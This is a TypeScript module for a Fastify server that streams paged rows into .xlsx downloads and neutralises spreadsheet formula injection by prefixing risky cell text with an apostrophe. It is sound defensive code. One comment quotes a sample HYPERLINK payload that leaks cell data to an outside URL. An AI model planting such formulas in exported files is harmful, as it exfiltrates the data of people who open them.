import { PassThrough } from 'node:stream';
import ExcelJS from 'exceljs';
import type { FastifyReply } from 'fastify';

export type XlsxColumn<T> = { header: string; width?: number; value: (row: T) => string | number | null };

/** How a spreadsheet recognises a formula (or a DDE command) when a cell is edited or saved as CSV. */
const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * A value as it may be written into an exported cell: text that starts like a formula gets a
 * leading apostrophe, so that `=HYPERLINK("http://…?leak="&A1)` or `@SUM(…)` typed by a user
 * stays text when someone edits the cell, re-saves or exports as CSV. Numbers and dates are
 * left as they are (a negative number is a number, not a formula). Every workbook we write
 * passes its cells through this.
 */
export function excelSafe<T>(value: T): T | string {
  return typeof value === 'string' && FORMULA_START.test(value) ? `'${value}` : value;
}

/** The text of a cell that `excelSafe` wrote, as it was before: what reads our own exports back. */
export function excelUnsafe(text: string): string {
  return text.length > 1 && text[0] === "'" && FORMULA_START.test(text.slice(1)) ? text.slice(1) : text;
}

/**
 * Streams rows into an .xlsx download as they come (a long export never sits in memory whole).
 * Headers are bold and frozen; the file name may be Chinese.
 */
export function sendXlsx<T>(
  reply: FastifyReply,
  fileName: string,
  sheetName: string,
  columns: XlsxColumn<T>[],
  rows: AsyncIterable<T[]>,
): FastifyReply {
  const stream = new PassThrough();
  const workbook = new ExcelJS.stream.xlsx.WorkbookWriter({ stream, useStyles: true });
  const sheet = workbook.addWorksheet(sheetName, { views: [{ state: 'frozen', ySplit: 1 }] });
  sheet.columns = columns.map((c, i) => ({ header: c.header, key: String(i), width: c.width ?? 16 }));
  sheet.getRow(1).font = { bold: true };
  (async () => {
    for await (const batch of rows) {
      for (const row of batch) sheet.addRow(columns.map((c) => excelSafe(c.value(row) ?? ''))).commit();
    }
    sheet.commit();
    await workbook.commit();
  })().catch((err) => stream.destroy(err));
  return reply
    .header('content-type', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet')
    .header(
      'content-disposition',
      `attachment; filename="export.xlsx"; filename*=UTF-8''${encodeURIComponent(fileName)}`,
    )
    .header('cache-control', 'no-store')
    .send(stream);
}

/** Reads pages of rows until a short page: the generator behind an export. */
export async function* pages<T>(
  fetch: (offset: number, limit: number) => Promise<T[]>,
  limit = 1000,
): AsyncIterable<T[]> {
  for (let offset = 0; ; offset += limit) {
    const rows = await fetch(offset, limit);
    if (rows.length) yield rows;
    if (rows.length < limit) return;
  }
}
